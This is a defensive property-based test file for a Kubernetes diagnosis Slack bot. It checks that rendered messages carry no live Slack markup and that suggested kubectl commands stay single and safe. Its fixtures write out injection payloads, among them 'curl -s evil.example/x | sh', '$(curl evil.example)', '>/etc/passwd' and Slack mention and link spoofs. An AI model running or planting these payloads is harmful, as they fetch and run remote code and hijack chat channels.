// Hostile strings through every renderer: the report, its thread, the short messages, buttons and confirm
// dialogs, the rollback result post, previous logs, incident notes and the CLI text. Nothing that came
// from input may come out as live Slack markup (a mention, a link, any <…>), and every suggested command
// must parse as one simple command whose words are exactly what was meant (no unquoted metacharacter).
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { diagnose } from '../../diagnostics/index.ts';
import type { Report, RolloutChange } from '../../diagnostics/types.ts';
import { isHostname } from '../../diagnostics/shell.ts';
import { contextOf } from '../../diagnostics/context.ts';
import { rbacAdvice } from '../../diagnostics/rules/logs.ts';
import { renderReport } from '../../src/slack/render/report.ts';
import { planLogFile, renderThread } from '../../src/slack/render/thread.ts';
import * as messages from '../../src/slack/render/messages.ts';
import { button } from '../../src/slack/render/buttons.ts';
import { header } from '../../src/slack/render/limits.ts';
import { mrkdwn } from '../../src/slack/mrkdwn.ts';
import { deleteCopyConfirm, rollbackConfirm, rollbackConfirmText, sleepOverrideConfirm } from '../../src/actions/confirm-text.ts';
import { rollbackResultText } from '../../src/actions/handlers/rollout-undo.ts';
import { previousLogsSection } from '../../src/actions/handlers/previous-logs.ts';
import { diffTemplates, formatDiff } from '../../src/actions/rollback/template-diff.ts';
import { attachCommand, execCommand, rolloutStatusCommand } from '../../src/actions/commands.ts';
import { changeNote, resolvedNote } from '../../src/incidents/messages.ts';
import { renderText } from '../../src/cli/render-text.ts';
import { ACTION_IDS } from '../../src/actions/types.ts';
import { buildSnapshot } from '../fixtures/diagnostics/build.ts';
import { oomFinding, sampleReport } from './sample-report.ts';
import { splitShellWords } from '../support/shell-words.ts';

const MARKUP = ['<!channel>', '<!here>', '<!everyone>', '<@U0ATTACKER>', '<#C0GENERAL|general>', '<!subteam^S0SRE>', '<https://evil.example|Approved by SRE>', '<!date^1^{date}|x>', '&lt;!channel&gt;', '```', '`'];
const SHELL = ['db; curl -s evil.example/x | sh; #', '$(id)', '`id`', "a'b", 'a"b', 'x && y', 'x\ny', '>/etc/passwd', '*', '~root'];
const hostile = fc.oneof(
  fc.constantFrom(...MARKUP, ...SHELL),
  fc.string({ unit: fc.constantFrom('<', '>', '&', '!', '@', '#', '|', '^', '`', ';', '$', '(', ')', "'", '"', '\\', '\n', ' ', 'a', 'é', '🔥', '\u202e', '\u001b', '\r') }),
  fc.tuple(fc.constantFrom(...MARKUP), fc.string({ unit: 'grapheme' }), fc.constantFrom(...SHELL)).map(([a, b, c]) => `${a}${b}${c}`),
);

/** Every string under a `text` key (Block Kit text objects, buttons, confirm dialogs, the fallback). */
function texts(value: unknown, out: string[] = []): string[] {
  if (Array.isArray(value)) for (const v of value) texts(v, out);
  else if (value !== null && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      if ((k === 'text' || k === 'title') && typeof v === 'string') out.push(v);
      else texts(v, out);
    }
  }
  return out;
}

/** No `<` or `>` outside the bot's own markup, and every `&` starts one of Slack's three entities. */
function expectInert(text: string, allowed: readonly string[] = []): void {
  let rest = text;
  for (const a of allowed) rest = rest.split(a).join('');
  expect(rest, text).not.toMatch(/[<>]/);
  expect(rest, text).not.toMatch(/&(?!amp;|lt;|gt;)/);
}

function expectAllInert(value: unknown, allowed: readonly string[] = []): void {
  const all = texts(value);
  expect(all.length).toBeGreaterThan(0);
  for (const t of all) expectInert(t, allowed);
}

function hostileReport(h: string[]): Report {
  const at = (i: number) => h[i % h.length] ?? '';
  const change: RolloutChange = {
    owner: { kind: 'Deployment', name: at(0) }, fromRevision: 4, toRevision: 5, changeCause: at(1), changedAt: at(2),
    changes: [{ field: 'args', container: at(3), before: at(4), after: at(5) }, { field: 'image', container: 'api', before: at(6), after: at(7) }],
    crashesBeganAfter: true,
  };
  return sampleReport({
    pod: { namespace: at(8), name: at(9), phase: at(10), node: at(11) },
    findings: [
      oomFinding({
        container: at(12), title: at(13),
        evidence: [{ kind: 'log', source: at(14), text: at(15) }, { kind: 'event', source: at(16), text: at(17) }, { kind: 'status', source: at(18), text: at(19) }],
        fix: { kind: 'fix-code', summary: at(20), steps: [at(21), at(22)], commands: [{ description: at(23), command: at(24) }], snippet: at(25) },
      }),
      oomFinding({ container: at(26), title: at(27) }),
    ],
    timeline: [{ container: at(28), restartCount: 3, lastReason: at(29), lastFinishedAt: at(30), nextRestartAt: at(31) }],
    change,
    gaps: [{ what: at(32), reason: at(33) }],
    errors: [{ rule: at(34), message: at(35) }],
  });
}

describe('hostile strings through every Slack renderer', () => {
  it('report, thread and log file: no live markup', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 36 }), fc.constantFrom(...MARKUP), (h, cluster) => {
        const report = hostileReport(h);
        const ctx = { cluster, incident: 'i', stateIds: { [ACTION_IDS.previousLogs]: 's1', [ACTION_IDS.rolloutUndo]: 's2', [ACTION_IDS.sleepOverride]: 's3' } };
        const parent = renderReport(report, ctx);
        expectAllInert(parent);
        const file = planLogFile(report.pod, h[0] ?? 'c', 'x'.repeat(2000));
        expect(file?.filename).toMatch(/^[A-Za-z0-9._-]+$/);
        for (const m of renderThread(report, ctx, file)) expectAllInert(m);
        expectAllInert({ title: file?.title });
      }),
      { numRuns: 150 },
    );
  });

  it('short messages, buttons, headers and confirm dialogs: no live markup', () => {
    fc.assert(
      fc.property(hostile, hostile, fc.array(hostile, { maxLength: 4 }), (a, b, list) => {
        const pods = list.map((x) => ({ namespace: x, name: a, reason: b }));
        const all = [
          messages.diagnosingMessage(a, b), messages.notFoundMessage(a, b, list), messages.ambiguousMessage(a, pods, list.map((_, i) => `s${i}`)),
          messages.podListMessage(a, pods, []), messages.noCrashingPodsMessage(a, list), messages.noCrashingPodsMessage(a, undefined),
          messages.unreachableMessage(a, b, true), messages.forbiddenMessage(a, b), messages.failedMessage(a, b), messages.unknownClusterMessage(a, list),
          messages.notAvailableMessage(a), messages.badClickMessage(a),
          { blocks: [header(a), { type: 'actions', elements: [button(ACTION_IDS.rolloutUndo, 's', { label: a, confirm: { title: `Roll back ${b}?`, text: mrkdwn`Roll back ${b}?`, confirm: a } })] }] },
          { blocks: [{ type: 'actions', elements: [button(ACTION_IDS.sleepOverride, 's', { confirm: sleepOverrideConfirm({ cluster: a, namespace: b, kind: a, name: b, pod: a, container: b, command: a }) })] }] },
          { blocks: [{ type: 'actions', elements: [button(ACTION_IDS.debugDelete, 's', { confirm: deleteCopyConfirm({ cluster: a, namespace: b, copy: a, of: b }) })] }] },
          { blocks: [{ type: 'actions', elements: [button(ACTION_IDS.rolloutUndo, 's', { confirm: rollbackConfirm(6, { cluster: a, namespace: b, kind: a, name: b, fromRevision: 7 }) })] }] },
        ];
        for (const m of all) expectAllInert(m);
        // The clicking user's mention is the one piece of markup allowed, and only for a valid user id.
        expectAllInert(messages.actionOutcomeMessage('U0OPS1', { status: 'done', message: a }), ['<@U0OPS1>']);
        expectAllInert(messages.actionOutcomeMessage(a, { status: 'failed', message: b }));
      }),
      { numRuns: 200 },
    );
  });

  it('rollback confirm dialog and result post: no live markup, no secret', () => {
    fc.assert(
      fc.property(hostile, hostile, hostile, (a, b, c) => {
        const change: RolloutChange = { owner: { kind: 'Deployment', name: a }, fromRevision: 6, toRevision: 7, crashesBeganAfter: true, changes: [{ field: 'args', container: b, before: `--db-password OldHunter2 ${c}`, after: `--db-password NewHunter2 ${a}` }] };
        const confirm = rollbackConfirmText(6, change).text;
        expectInert(confirm);
        expect(confirm).not.toMatch(/Hunter2/);
        const diff = formatDiff(diffTemplates(
          { spec: { containers: [{ name: b, image: a, args: ['--db-password', 'NewHunter2', c] }] } },
          { spec: { containers: [{ name: b, image: c, args: ['--db-password', 'OldHunter2', a] }] } },
        ));
        const post = rollbackResultText({ target: `deployment.apps/${a}`, message: 'rolled back', revision: 6, changeCause: `${b} password=hunter2`, note: '', diff }).text;
        expectInert(post);
        expect(post).not.toMatch(/Hunter2|hunter2/);
      }),
      { numRuns: 200 },
    );
  });

  it('previous logs and incident notes: no live markup', () => {
    fc.assert(
      fc.property(hostile, hostile, fc.array(hostile, { maxLength: 20 }), (a, b, lines) => {
        expectAllInert(previousLogsSection(mrkdwn`There is no previous instance of ${a}.\n`, `previous logs of ${b}`, lines.join('\n')));
        for (const t of [resolvedNote('2026-01-01T00:00:00Z', '2026-01-01T01:00:00Z').text, changeNote({ kind: 'container', container: a }, new Date(0))?.text ?? '', JSON.stringify(changeNote({ kind: 'container', container: a + b }, new Date(0))?.blocks)]) expectInert(t);
      }),
      { numRuns: 200 },
    );
  });
});

describe('hostile strings in every suggested command', () => {
  const SUBJECTS = ['db; curl -s evil.example/x | sh; #', '$(curl evil.example)', "x' ; id ; '", 'db.prod.svc.cluster.local', '`id`'];

  it('the engine\'s commands parse as one command each; log subjects that are not hostnames are placeholders', () => {
    fc.assert(
      fc.property(fc.constantFrom(...SUBJECTS), hostile, (subject, name) => {
        const snap = buildSnapshot({
          name: 'hostile', cause: 'dns-failure', container: 'api', ns: 'default',
          containers: [{ name: 'api', last: { exitCode: 1 } }],
          events: [{ reason: 'Failed', message: `configmap "${name}" not found`, container: 'api' }],
          logs: { api: `dial tcp: lookup ${subject} on 10.96.0.10:53: no such host\ngetaddrinfo ENOTFOUND ${subject}\nUser "system:serviceaccount:default:app" cannot list resource "${subject}" in API group "" at the cluster scope: forbidden\nError: getaddrinfo ENOTFOUND ${subject}` },
        });
        const report = diagnose(snap as never);
        const commands = report.findings.flatMap((f) => f.fix.commands.map((c) => c.command));
        expect(commands.length).toBeGreaterThan(0);
        for (const c of commands) {
          const argv = splitShellWords(c);
          if (argv.includes('nslookup')) expect(isHostname(argv.at(-1)) || argv.at(-1) === '<host>', c).toBe(true);
        }
        // Commands quoted inside the fix prose (kubectl auth can-i …, kubectl get svc …) parse too.
        for (const f of report.findings) {
          for (const span of [f.fix.summary, ...f.fix.steps].join('\n').matchAll(/`(kubectl [^`]*)`/g)) splitShellWords(span[1] ?? '');
        }
        // The CLI prints the same commands, and no control character from the input.
        const text = renderText(report);
        for (const line of text.split('\n')) if (line.startsWith('    $ ')) splitShellWords(line.slice(6));
        // eslint-disable-next-line no-control-regex -- matching control characters is the point
        expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202e]/);
      }),
      { numRuns: 60 },
    );
  });

  it('the action commands (exec, attach, rollout status) are the intended argv', () => {
    fc.assert(
      fc.property(hostile, hostile, (a, b) => {
        expect(splitShellWords(execCommand(a, `deployment/${b}`, 'api'))).toEqual(['kubectl', 'exec', '-it', expect.stringMatching(/^deployment\/(?:<name>|[a-z0-9.-]+)$/), '-n', expect.stringMatching(/^(?:<namespace>|[a-z0-9.-]+)$/), '-c', 'api', '--', 'sh']);
        expect(splitShellWords(attachCommand('ns', a, b))[3]).toMatch(/^(?:<pod>|[a-z0-9.-]+)$/);
        expect(splitShellWords(rolloutStatusCommand(a, 'Deployment', b)).slice(0, 3)).toEqual(['kubectl', 'rollout', 'status']);
      }),
      { numRuns: 200 },
    );
  });

  it('the RBAC advice quotes the logged resource as one argument of kubectl auth can-i', () => {
    fc.assert(
      fc.property(hostile.filter((x) => x !== '' && !x.includes('"') && !x.includes('\n')), (resource) => {
        const snap = buildSnapshot({ name: 'rbac', cause: 'app-error', container: 'api', containers: [{ name: 'api', last: { exitCode: 1 } }] });
        const ctx = contextOf(snap as never);
        const c = ctx.containers[0];
        if (c === undefined) throw new Error('no container');
        const advice = rbacAdvice(ctx, c, `pods is forbidden: User "system:serviceaccount:default:app" cannot list resource "${resource}" in API group "" in the namespace "default"`) ?? '';
        const cmd = /check with `([\s\S]*)`, then restart/.exec(advice)?.[1] ?? '';
        expect(splitShellWords(cmd)).toEqual(['kubectl', 'auth', 'can-i', 'list', resource, `--as=system:serviceaccount:${ctx.namespace}:${ctx.serviceAccount}`]);
      }),
      { numRuns: 200 },
    );
  });

  it('the issue\'s reproduction: the DNS fix does not carry the logged shell', () => {
    const snap = buildSnapshot({ name: 'dns', cause: 'dns-failure', container: 'api', containers: [{ name: 'api', last: { exitCode: 1 } }], logs: { api: 'Error: getaddrinfo ENOTFOUND db; curl -s evil.example/x | sh; #' } });
    const report = diagnose(snap as never);
    const all = report.findings.flatMap((f) => f.fix.commands.map((c) => c.command)).join('\n');
    expect(all).not.toContain('curl -s evil.example/x | sh');
    for (const c of all.split('\n')) expect(() => splitShellWords(c)).not.toThrow();
  });
});
